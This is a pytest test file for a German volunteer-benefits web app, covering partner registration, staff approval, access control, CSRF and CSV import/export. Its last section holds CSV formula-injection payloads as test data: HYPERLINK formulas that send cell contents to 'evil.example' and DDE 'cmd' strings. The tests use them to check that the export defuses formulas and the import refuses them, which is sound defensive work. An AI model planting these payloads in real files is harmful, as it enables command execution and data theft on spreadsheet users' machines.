"""Partners: registration, the partner area, staff decisions, benefits, colleagues, CSV."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import delete, func, select

from ehrenamt.core import errors
from ehrenamt.core.audit import Acting
from ehrenamt.extensions import db
from ehrenamt.models import (
    AuditEntry,
    Benefit,
    Category,
    Office,
    Partner,
    PartnerMember,
    PartnerState,
    User,
    UserRole,
    Verification,
    VerificationChannel,
    utcnow,
)
from ehrenamt.partners import benefits as partners_benefits
from ehrenamt.partners import categories, import_export, membership
from ehrenamt.partners import registration as partners_registration
from ehrenamt.workflow import Actor
from tests.factories import PASSWORD, make_office, make_user
from tests.helpers import csrf_token, page_text, post, sign_in
from tests.mailbox import Mailbox, links_in, path_of, text_of

REGISTER = "/akzeptanzstelle/registrieren"


def _category_id(slug: str = "multimedia") -> int:
    categories.ensure_categories()
    category_id = db.session.scalar(select(Category.id).where(Category.slug == slug))
    assert category_id is not None
    return category_id


def registration_data(office: Office, **changes: str) -> dict[str, str]:
    """A complete, valid registration form."""
    data = {
        "office": str(office.id),
        "name": "Kino am Markt",
        "category": str(_category_id()),
        "street": "Markt 1",
        "postcode": "06844",
        "town": "Dessau-Roßlau",
        "website": "https://kino.example.org",
        "phone": "0340 123",
        "description": "Programmkino",
        "benefits-0-title": "2 € Rabatt auf den Eintritt",
        "benefits-0-description": "an allen Tagen",
        "benefits-0-conditions": "",
        "benefits-0-valid_from": "",
        "benefits-0-valid_until": "",
        "benefits-1-title": "",
        "contact_name": "Karla Kino",
        "email": "kino@example.org",
        "password": PASSWORD,
        "confirm": PASSWORD,
    }
    data.update(changes)
    return data


def make_partner(
    office: Office,
    email: str | None = None,
    *,
    approve: bool = True,
    name: str = "Museum",
    town: str = "Dessau-Roßlau",
    postcode: str = "06844",
    latitude: str | None = None,
    longitude: str | None = None,
    benefits: tuple[str, ...] = ("Freier Eintritt",),
    category: str = "bildung-kultur-unterhaltung",
    confirm_email: bool = True,
) -> tuple[Partner, User]:
    """A registered partner (approved unless told otherwise, its address confirmed unless
    told otherwise) and its first account."""

    email = email or f"{name.lower().replace(' ', '')}{id(office)}@example.org"
    partner = partners_registration.register_partner(
        office,
        partners_registration.PartnerInput(
            name=name,
            category_id=_category_id(category),
            street="Straße 1",
            postcode=postcode,
            town=town,
            email=email,
            latitude=Decimal(latitude) if latitude else None,
            longitude=Decimal(longitude) if longitude else None,
        ),
        [partners_benefits.BenefitInput(title) for title in benefits],
        password=PASSWORD,
    )
    if confirm_email:
        partner.email_confirmed_at = utcnow()
        db.session.commit()
    if approve:
        staff = db.session.scalar(
            select(User).where(User.office_id == office.id, User.role == UserRole.CLERK)
        ) or make_user(UserRole.CLERK, office)
        partners_registration.approve_partner(partner, Acting.user_as(staff, Actor.CLERK))
    user = db.session.scalar(
        select(User)
        .join(PartnerMember, PartnerMember.user_id == User.id)
        .where(PartnerMember.partner_id == partner.id)
    )
    assert user is not None
    return partner, user


def _audit_actions(partner_id: int) -> list[str]:
    return list(
        db.session.scalars(
            select(AuditEntry.action)
            .where(AuditEntry.subject_type == "partner", AuditEntry.subject_id == partner_id)
            .order_by(AuditEntry.id)
        )
    )


# --- registration -------------------------------------------------------------------


@pytest.mark.worker
def test_registration_creates_a_pending_partner_with_account_and_benefits(
    client: FlaskClient, ctx: None, mailbox: Mailbox
) -> None:
    office = make_office()
    response = post(client, REGISTER, registration_data(office), page=REGISTER)
    assert response.status_code == 302, page_text(response)[:3000]
    partner = db.session.scalar(select(Partner))
    assert partner is not None
    assert partner.state == PartnerState.PENDING and partner.office_id == office.id
    assert len(partner.public_id) >= 16
    assert [b.title for b in partner.benefits] == ["2 € Rabatt auf den Eintritt"]
    assert partner.benefits[0].published is False
    assert "kino am markt" in partner.benefits[0].search_text
    user = db.session.scalar(select(User).where(User.email == "kino@example.org"))
    assert user is not None and user.role == UserRole.PARTNER
    assert user.password_hash and PASSWORD not in user.password_hash
    mailbox.wait_for(to="kino@example.org", subject="Registrierung")


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"postcode": "123"}, "postcode"),
        ({"email": "not-an-address"}, "email"),
        ({"benefits-0-title": ""}, "benefits-0-title"),
        ({"confirm": "something else"}, "confirm"),
        ({"website": "javascript://x"}, "website"),
        (
            {"benefits-0-valid_from": "2030-01-02", "benefits-0-valid_until": "2030-01-01"},
            "benefits-0-valid_until",
        ),
    ],
)
def test_registration_with_bad_input_keeps_the_data(
    client: FlaskClient, ctx: None, changes: dict[str, str], field: str
) -> None:
    office = make_office()
    response = post(client, REGISTER, registration_data(office, **changes), page=REGISTER)
    assert response.status_code == 400
    html = page_text(response)
    assert f'id="{field}-error"' in html
    assert 'value="Kino am Markt"' in html and "Programmkino" in html
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0


def test_registration_with_a_taken_address_says_so(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    make_user(UserRole.VOLUNTEER, email="kino@example.org")
    response = post(client, REGISTER, registration_data(office), page=REGISTER)
    assert response.status_code == 400
    assert "schon ein Konto" in page_text(response)


def test_registration_without_csrf_token_is_refused(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    response = client.post(REGISTER, data=registration_data(office))
    assert response.status_code == 400
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0


# --- partner area -------------------------------------------------------------------


def test_pending_partner_sees_only_its_status(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    _partner, user = make_partner(office, approve=False)
    response = sign_in(client, user)
    assert response.headers["Location"].endswith("/partner/")
    status = client.get("/partner/")
    assert status.status_code == 200 and "noch geprüft" in page_text(status)
    for path in ("/partner/profil", "/partner/verguenstigungen/neu", "/partner/kolleginnen"):
        assert client.get(path).status_code == 403, path


def test_declined_partner_sees_the_reason(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    partner, user = make_partner(office, approve=False)
    partners_registration.decline_partner(
        partner, Acting.user_as(make_user(UserRole.CLERK, office), Actor.CLERK), "Kein Angebot"
    )
    sign_in(client, user)
    status = page_text(client.get("/partner/"))
    assert "abgelehnt" in status and "Kein Angebot" in status
    assert client.get("/partner/profil").status_code == 403
    with pytest.raises(errors.NotPermitted):
        partners_registration.approve_partner(
            partner, Acting.user_as(make_user(UserRole.CLERK, make_office()), Actor.CLERK)
        )


def test_other_roles_cannot_reach_the_partner_area(client: FlaskClient, ctx: None) -> None:
    assert client.get("/partner/profil").status_code == 302  # anonymous: sign in first
    sign_in(client, make_user(UserRole.VOLUNTEER))
    assert client.get("/partner/profil").status_code == 403


def test_benefit_changes_are_live_at_once(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    _partner, user = make_partner(office)
    sign_in(client, user)
    response = post(
        client,
        "/partner/verguenstigungen/neu",
        {"title": "Kaffee gratis", "description": "zum Eintritt"},
        page="/partner/verguenstigungen/neu",
    )
    assert response.status_code == 302
    assert "Kaffee gratis" in page_text(client.get("/verguenstigungen/?q=kaffee"))
    benefit = db.session.scalar(select(Benefit).where(Benefit.title == "Kaffee gratis"))
    assert benefit is not None
    edit = f"/partner/verguenstigungen/{benefit.public_id}"
    post(client, edit, {"title": "Tee gratis"}, page=edit)
    listing = page_text(client.get("/verguenstigungen/?q=gratis"))
    assert "Tee gratis" in listing and "Kaffee gratis" not in listing
    post(client, edit + "/loeschen", {}, page=edit)
    assert "Tee gratis" not in page_text(client.get("/verguenstigungen/?q=gratis"))


def test_profile_change_follows_into_the_directory(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    partner, user = make_partner(office, name="Altes Museum")
    sign_in(client, user)
    form = client.get("/partner/profil")
    assert 'value="Altes Museum"' in page_text(form)
    response = post(
        client,
        "/partner/profil",
        {
            "name": "Neues Museum",
            "category": str(_category_id("sonstiges")),
            "street": "Weg 2",
            "postcode": "06846",
            "town": "Roßlau",
            # The same address: a new one is unlisted until confirmed (test_partner_email).
            "email": partner.email,
        },
        page="/partner/profil",
    )
    assert response.status_code == 302
    db.session.expire_all()
    [benefit] = db.session.scalars(select(Benefit).where(Benefit.partner_id == partner.id))
    assert benefit.postcode == "06846" and benefit.category_id == _category_id("sonstiges")
    assert "neues museum" in benefit.search_text
    assert "Neues Museum" in page_text(client.get("/verguenstigungen/?place=06846"))


def test_profile_with_bad_input_answers_400_at_the_field(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    _partner, user = make_partner(office)
    sign_in(client, user)
    response = post(
        client, "/partner/profil", {"name": "X", "postcode": "abc"}, page="/partner/profil"
    )
    assert response.status_code == 400
    assert 'id="postcode-error"' in page_text(response)


def test_partner_cannot_touch_another_partners_benefit(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    partner_a, user_a = make_partner(office, name="A")
    partner_b, _user_b = make_partner(office, name="B", benefits=("B-Rabatt",))
    other = partner_b.benefits[0]
    sign_in(client, user_a)
    path = f"/partner/verguenstigungen/{other.public_id}"
    assert client.get(path).status_code == 404
    token = csrf_token(client, "/partner/profil")
    assert client.post(path, data={"csrf_token": token, "title": "gekapert"}).status_code == 404
    deleted = client.post(path + "/loeschen", data={"csrf_token": token})
    assert deleted.status_code == 404
    db.session.expire_all()
    assert db.session.get(Benefit, other.id).title == "B-Rabatt"  # type: ignore[union-attr]
    assert "B-Rabatt" not in page_text(client.get("/partner/"))
    assert partner_a.name != partner_b.name


def test_benefit_form_without_csrf_is_refused(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    _partner, user = make_partner(office)
    sign_in(client, user)
    response = client.post("/partner/verguenstigungen/neu", data={"title": "ohne Token"})
    assert response.status_code == 400
    assert db.session.scalar(select(Benefit).where(Benefit.title == "ohne Token")) is None


@pytest.mark.worker
def test_invited_colleague_signs_in_and_sets_a_password(
    client: FlaskClient, make_client: Any, ctx: None, mailbox: Mailbox
) -> None:
    office = make_office()
    partner, user = make_partner(office)
    sign_in(client, user)
    response = post(
        client,
        "/partner/kolleginnen",
        {"email": "kollege@example.org"},
        page="/partner/kolleginnen",
    )
    assert response.status_code == 302
    [mail] = mailbox.wait_for(to="kollege@example.org", subject="Einladung")
    [link] = [u for u in links_in(mail) if "/partner/einladung/" in u]
    colleague = make_client()
    used = post(colleague, path_of(link), {}, page=path_of(link))
    assert used.status_code == 302 and used.headers["Location"].endswith("/partner/passwort")
    new_password = "ein neues langes Passwort"
    saved = post(
        colleague,
        "/partner/passwort",
        {"password": new_password, "confirm": new_password},
        page="/partner/passwort",
    )
    assert saved.status_code == 302
    assert colleague.get("/partner/profil").status_code == 200
    again = post(make_client(), path_of(link), {}, page=path_of(link))
    assert again.status_code == 410
    member = db.session.scalar(
        select(PartnerMember)
        .join(User, User.id == PartnerMember.user_id)
        .where(User.email == "kollege@example.org")
    )
    assert member is not None and member.partner_id == partner.id
    assert member.invited_by_id == user.id


# --- staff --------------------------------------------------------------------------


@pytest.mark.worker
def test_staff_approve_audited_and_mailed(client: FlaskClient, ctx: None, mailbox: Mailbox) -> None:
    office = make_office()
    partner, _user = make_partner(office, approve=False, email="laden@example.org")
    clerk = make_user(UserRole.CLERK, office)
    sign_in(client, clerk)
    listing = page_text(client.get("/verwaltung/partner/"))
    assert partner.name in listing
    detail = f"/verwaltung/partner/{partner.public_id}"
    response = post(client, detail + "/bestaetigen", {}, page=detail)
    assert response.status_code == 302
    db.session.expire_all()
    assert db.session.get(Partner, partner.id).state == PartnerState.APPROVED  # type: ignore[union-attr]
    assert _audit_actions(partner.id) == ["approve"]
    assert all(b.published for b in db.session.get(Partner, partner.id).benefits)  # type: ignore[union-attr]
    mailbox.wait_for(to="laden@example.org", subject="bestätigt")
    # A second decision conflicts instead of deciding twice.
    assert post(client, detail + "/bestaetigen", {}, page=detail).status_code == 409


@pytest.mark.worker
def test_staff_decline_needs_a_reason_and_is_mailed(
    client: FlaskClient, ctx: None, mailbox: Mailbox
) -> None:
    office = make_office()
    partner, _user = make_partner(office, approve=False, email="laden@example.org")
    sign_in(client, make_user(UserRole.CLERK, office))
    detail = f"/verwaltung/partner/{partner.public_id}"
    assert post(client, detail + "/ablehnen", {"reason": ""}, page=detail).status_code == 400
    response = post(client, detail + "/ablehnen", {"reason": "Kein Angebot"}, page=detail)
    assert response.status_code == 302
    db.session.expire_all()
    declined = db.session.get(Partner, partner.id)
    assert declined is not None and declined.state == PartnerState.DECLINED
    assert declined.decline_reason == "Kein Angebot"
    assert _audit_actions(partner.id) == ["decline"]
    [mail] = mailbox.wait_for(to="laden@example.org", subject="abgelehnt")
    assert "Kein Angebot" in text_of(mail)


def test_staff_of_another_office_get_404(client: FlaskClient, ctx: None) -> None:
    office, other = make_office(), make_office()
    partner, _user = make_partner(office, approve=False)
    sign_in(client, make_user(UserRole.CLERK, other))
    detail = f"/verwaltung/partner/{partner.public_id}"
    assert client.get(detail).status_code == 404
    token = csrf_token(client, "/verwaltung/partner/")
    assert client.post(detail + "/bestaetigen", data={"csrf_token": token}).status_code == 404
    assert partner.name not in page_text(client.get("/verwaltung/partner/?state="))
    hide = f"/verwaltung/partner/verguenstigung/{partner.benefits[0].public_id}/ausblenden"
    assert client.post(hide, data={"csrf_token": token}).status_code == 404
    db.session.expire_all()
    assert db.session.get(Partner, partner.id).state == PartnerState.PENDING  # type: ignore[union-attr]


def test_partner_cannot_reach_staff_pages(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    _partner, user = make_partner(office)
    sign_in(client, user)
    assert client.get("/verwaltung/partner/").status_code == 403


def test_staff_unpublish_hides_a_benefit_until_republished(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    partner, partner_user = make_partner(office, benefits=("Sonderpreis",))
    benefit = partner.benefits[0]
    sign_in(client, make_user(UserRole.CLERK, office))
    assert "Sonderpreis" in page_text(client.get("/verguenstigungen/"))
    detail = f"/verwaltung/partner/{partner.public_id}"
    base = f"/verwaltung/partner/verguenstigung/{benefit.public_id}"
    assert (
        post(client, base + "/ausblenden", {"note": "irreführend"}, page=detail).status_code == 302
    )
    assert "Sonderpreis" not in page_text(client.get("/verguenstigungen/"))
    assert "Sonderpreis" not in page_text(
        client.get(f"/verguenstigungen/partner/{partner.public_id}")
    )
    # The partner editing it does not bring it back.
    partner_client = client.application.test_client()
    sign_in(partner_client, partner_user)
    edit = f"/partner/verguenstigungen/{benefit.public_id}"
    post(partner_client, edit, {"title": "Sonderpreis"}, page=edit)
    assert "Sonderpreis" not in page_text(client.get("/verguenstigungen/"))
    assert post(client, base + "/einblenden", {"note": "geklärt"}, page=detail).status_code == 302
    assert "Sonderpreis" in page_text(client.get("/verguenstigungen/"))
    assert _audit_actions(partner.id) == ["approve", "unpublish_benefit", "republish_benefit"]


def test_staff_list_shows_verification_counts(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    partner, _user = make_partner(office)
    for _ in range(3):
        db.session.add(
            Verification(partner_id=partner.id, channel=VerificationChannel.PAGE, result="valid")
        )
    db.session.commit()
    sign_in(client, make_user(UserRole.CLERK, office))
    detail = page_text(client.get(f"/verwaltung/partner/{partner.public_id}"))
    assert "<dd>3</dd>" in detail
    assert "<td>3</td>" in page_text(client.get("/verwaltung/partner/?state=approved"))


def test_staff_list_is_paged(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    client.application.config["PAGE_SIZE"] = 2
    try:
        for n in range(3):
            make_partner(office, approve=False, name=f"Laden {n}")
        sign_in(client, make_user(UserRole.CLERK, office))
        first = page_text(client.get("/verwaltung/partner/"))
        assert "Laden 0" in first and "Laden 1" in first and "Laden 2" not in first
        second = page_text(client.get("/verwaltung/partner/?state=pending&page=2"))
        assert "Laden 2" in second and "Laden 0" not in second
    finally:
        client.application.config["PAGE_SIZE"] = 25


CSV_HEADER = ",".join(import_export.CSV_COLUMNS)


def _csv_line(name: str, email: str, category: str = "multimedia", postcode: str = "06844") -> str:
    return f"{name},{category},Weg 1,{postcode},Dessau,{email},,,,51.83,12.24,,{name} Rabatt,"


def _import(client: FlaskClient, content: str) -> Any:
    """Import checked CSV content (the confirmation step after the dry run)."""
    return post(
        client,
        "/verwaltung/partner/import/ausfuehren",
        {"content": content},
        page="/verwaltung/partner/import",
    )


def _upload(client: FlaskClient, content: str) -> Any:
    return client.post(
        "/verwaltung/partner/import",
        data={
            "csrf_token": csrf_token(client, "/verwaltung/partner/import"),
            "file": (io.BytesIO(content.encode()), "partner.csv"),
        },
        content_type="multipart/form-data",
    )


def test_csv_import_dry_run_then_import(client: FlaskClient, ctx: None) -> None:
    office = make_office()
    categories.ensure_categories()
    sign_in(client, make_user(UserRole.CLERK, office))
    content = "\n".join(
        [
            CSV_HEADER,
            _csv_line("Laden Eins", "eins@example.org"),
            _csv_line("Laden Zwei", "zwei@example.org"),
        ]
    )
    checked = _upload(client, content)
    assert checked.status_code == 200
    assert "2 Akzeptanzstellen können importiert werden" in page_text(checked)
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0  # dry run
    assert _import(client, content).status_code == 302
    imported = list(db.session.scalars(select(Partner).order_by(Partner.name)))
    assert [p.name for p in imported] == ["Laden Eins", "Laden Zwei"]
    assert all(p.state == PartnerState.APPROVED and p.office_id == office.id for p in imported)
    assert "Laden Eins Rabatt" in page_text(client.get("/verguenstigungen/"))
    export = client.get("/verwaltung/partner/export.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    lines = export.get_data(as_text=True).strip().splitlines()
    assert lines[0] == CSV_HEADER and len(lines) == 3
    assert "eins@example.org" in lines[1]


@pytest.mark.worker
def test_staff_invite_an_account_for_an_imported_partner(
    client: FlaskClient, make_client: Any, ctx: None, mailbox: Mailbox
) -> None:
    office = make_office()
    categories.ensure_categories()
    clerk = make_user(UserRole.CLERK, office)
    sign_in(client, clerk)
    content = "\n".join([CSV_HEADER, _csv_line("Laden Eins", "eins@example.org")])
    assert _import(client, content).status_code == 302
    partner = db.session.scalar(select(Partner).where(Partner.name == "Laden Eins"))
    assert partner is not None and membership.members_of(partner) == []
    detail = f"/verwaltung/partner/{partner.public_id}"
    page = page_text(client.get(detail))
    assert "noch keinen Zugang" in page and 'value="eins@example.org"' in page

    assert client.post(detail + "/zugang", data={"email": "x@example.org"}).status_code == 400
    bad = post(client, detail + "/zugang", {"email": "kein-name"}, page=detail)
    assert bad.status_code == 400 and 'value="kein-name"' in page_text(bad)
    taken = post(client, detail + "/zugang", {"email": clerk.email}, page=detail)
    assert taken.status_code == 400 and "schon ein Konto" in page_text(taken)

    sent = post(client, detail + "/zugang", {"email": "eins@example.org"}, page=detail)
    assert sent.status_code == 302
    [mail] = mailbox.wait_for(to="eins@example.org", subject="Einladung")
    [link] = [u for u in links_in(mail) if "/partner/einladung/" in u]
    owner = make_client()
    used = post(owner, path_of(link), {}, page=path_of(link))
    assert used.status_code == 302 and used.headers["Location"].endswith("/partner/passwort")
    assert owner.get("/partner/profil").status_code == 200
    db.session.expire_all()
    [member] = membership.members_of(partner)
    assert member.email == "eins@example.org"
    assert _audit_actions(partner.id)[-1] == "invite"

    # Staff of another office do not see it; a pending partner gets no account from staff.
    elsewhere = make_client()
    sign_in(elsewhere, make_user(UserRole.CLERK, make_office()))
    assert (
        post(elsewhere, detail + "/zugang", {"email": "y@example.org"}, page="/").status_code == 404
    )
    pending, _ = make_partner(office, approve=False, name="Neu")
    pending_detail = f"/verwaltung/partner/{pending.public_id}"
    assert "Zugang einladen" not in page_text(client.get(pending_detail))
    refused = post(client, pending_detail + "/zugang", {"email": "z@example.org"}, page=detail)
    assert refused.status_code == 409


def test_csv_import_reports_errors_per_line_and_imports_nothing(
    client: FlaskClient, ctx: None
) -> None:
    office = make_office()
    categories.ensure_categories()
    sign_in(client, make_user(UserRole.CLERK, office))
    content = "\n".join(
        [
            CSV_HEADER,
            _csv_line("Gut", "gut@example.org"),
            _csv_line("Schlecht", "schlecht@example.org", category="gibtsnicht"),
            _csv_line("PLZ", "plz@example.org", postcode="12"),
        ]
    )
    checked = _upload(client, content)
    assert checked.status_code == 400
    html = page_text(checked)
    assert "Zeile 3:" in html and "gibtsnicht" in html and "Zeile 4:" in html
    assert "Zeile 2:" not in html
    # Posting the bad file straight to the import step changes nothing either.
    assert _import(client, content).status_code == 400
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0


def test_csv_export_lists_only_the_own_office(client: FlaskClient, ctx: None) -> None:
    office, other = make_office(), make_office()
    make_partner(office, name="Hier")
    make_partner(other, name="Dort")
    sign_in(client, make_user(UserRole.CLERK, office))
    body = client.get("/verwaltung/partner/export.csv").get_data(as_text=True)
    assert "Hier" in body and "Dort" not in body


def test_ensure_categories_is_idempotent(ctx: None) -> None:
    first = categories.ensure_categories()
    second = categories.ensure_categories()
    assert len(first) == len(second) == 10
    assert [c.slug for c in first] == [slug for slug, _n, _e in categories.CATEGORIES]


def test_english_pages(client: FlaskClient, ctx: None) -> None:
    make_office()
    categories.ensure_categories()
    headers = {"Accept-Language": "en"}
    html = page_text(client.get(REGISTER, headers=headers))
    assert "Register as a partner" in html and "Health/sport/wellness" in html
    assert "Benefits" in page_text(client.get("/verguenstigungen/", headers=headers))


def test_demo_data_has_an_approved_partner(client: FlaskClient, ctx: None) -> None:
    from ehrenamt.cli import DEMO_PASSWORD, seed_demo

    assert seed_demo()
    account = db.session.scalar(select(User).where(User.email == "partner@demo.example.org"))
    assert account is not None
    sign_in(client, account, password=DEMO_PASSWORD)
    assert "Stadtmuseum" in page_text(client.get("/partner/"))
    html = page_text(client.get("/verguenstigungen/"))
    assert "Freier Eintritt" in html and "Museumsshop" in html


@pytest.mark.parametrize("role", [UserRole.PARTNER, UserRole.VOLUNTEER])
def test_csv_import_is_for_staff_only_even_with_the_office_set(ctx: None, role: UserRole) -> None:
    """The import checks the one staff rule, not only the office (an account of another
    role that carries the office id is nobody's clerk)."""
    office = make_office()
    someone = make_user(role, office)
    content = "\n".join([CSV_HEADER, _csv_line("Laden Eins", "eins@example.org")])
    with pytest.raises(errors.NotPermitted):
        import_export.import_csv(
            office, content, Acting.user_as(someone, Actor.CLERK), dry_run=True
        )
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0


# --- spreadsheet formulas in the CSV (OWASP CSV injection) ---------------------------

#: Values a spreadsheet would run: a link, DDE commands, and a tab or CR before a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "'=cmd|' /C calc'!A0",  # our export's quote does not smuggle one in
]


def _csv(*rows: dict[str, str]) -> str:
    """A CSV file with the import's columns; each row is a valid partner with changes."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(import_export.CSV_COLUMNS)
    for n, changes in enumerate(rows):
        row = {
            "name": f"Laden {n}",
            "category": "multimedia",
            "street": "Weg 1",
            "postcode": "06844",
            "town": "Dessau",
            "email": f"laden{n}@example.org",
            **changes,
        }
        writer.writerow([row.get(column, "") for column in import_export.CSV_COLUMNS])
    return out.getvalue()


def test_csv_export_defuses_formulas(client: FlaskClient, ctx: None) -> None:
    """Every cell a spreadsheet would run gets a leading quote; numbers stay numbers."""
    office = make_office()
    names = [
        '=HYPERLINK("http://evil.example","Klick")',
        "+1+cmd|' /C calc'!A0",
        "-Bäckerei-",
        "@SUM(1+1)",
        "\tTabulator",
        "\rWagenrücklauf",
        "Museum",
    ]
    for n, name in enumerate(names):
        partner, _account = make_partner(
            office, f"p{n}@example.org", name=name, latitude="-12.5", longitude="51.8"
        )
        partner.name = name  # registration strips a tab or CR; older data may have one
    db.session.commit()
    sign_in(client, make_user(UserRole.CLERK, office))

    body = client.get("/verwaltung/partner/export.csv").get_data(as_text=True)

    header, *rows = list(csv.reader(io.StringIO(body, newline="")))
    exported = {row[header.index("name")]: row for row in rows}
    assert set(exported) == {"'" + name if name[0] in "=+-@\t\r" else name for name in names}, (
        exported.keys()
    )
    # A negative number cannot be a formula and stays a number the import reads again.
    assert {Decimal(row[header.index("latitude")]) for row in rows} == {Decimal("-12.5")}
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row[:9]), row


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["name", "description", "benefit_title"])
def test_csv_import_refuses_formulas(ctx: None, formula: str, column: str) -> None:
    """A value a spreadsheet would run is an error at its line; nothing is imported."""
    office = make_office()
    categories.ensure_categories()
    clerk = make_user(UserRole.CLERK, office)
    content = _csv({}, {column: formula})

    report = import_export.import_csv(
        office, content, Acting.user_as(clerk, Actor.CLERK), dry_run=False
    )

    assert not report.imported
    assert list(report.errors) == [3]
    assert f"Spalte „{column}“ beginnt wie eine Tabellenformel" in report.errors[3][0]
    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0


def test_csv_import_keeps_plain_values_that_start_with_a_sign(
    client: FlaskClient, ctx: None
) -> None:
    """ "-Bäckerei-", a phone number with "+", a leading tab or CR: data, not formulas.
    The export quotes them, and the exported file checks clean again."""
    office = make_office()
    categories.ensure_categories()
    sign_in(client, make_user(UserRole.CLERK, office))
    content = _csv(
        {"name": "-Bäckerei-", "phone": "+49 (0)340 123456"},
        {"name": "\tLaden mit Tabulator", "description": "-20 % auf alles"},
        {"name": "\rLaden mit Wagenrücklauf", "longitude": "-1.5", "latitude": "51"},
    )

    assert _import(client, content).status_code == 302

    partners = {p.name: p for p in db.session.scalars(select(Partner))}
    assert set(partners) == {"-Bäckerei-", "Laden mit Tabulator", "Laden mit Wagenrücklauf"}
    assert partners["-Bäckerei-"].phone == "+49 (0)340 123456"
    assert partners["Laden mit Tabulator"].description == "-20 % auf alles"
    exported = client.get("/verwaltung/partner/export.csv").get_data(as_text=True)
    assert "'-Bäckerei-" in exported and "'+49 (0)340 123456" in exported
    db.session.execute(delete(Partner))
    db.session.commit()
    clerk = make_user(UserRole.CLERK, office)
    again = import_export.import_csv(
        office, exported, Acting.user_as(clerk, Actor.CLERK), dry_run=False
    )
    assert again.errors == {} and again.imported
    partners = {p.name: p for p in db.session.scalars(select(Partner))}
    assert partners["-Bäckerei-"].phone == "+49 (0)340 123456"
    assert partners["Laden mit Tabulator"].description == "-20 % auf alles"
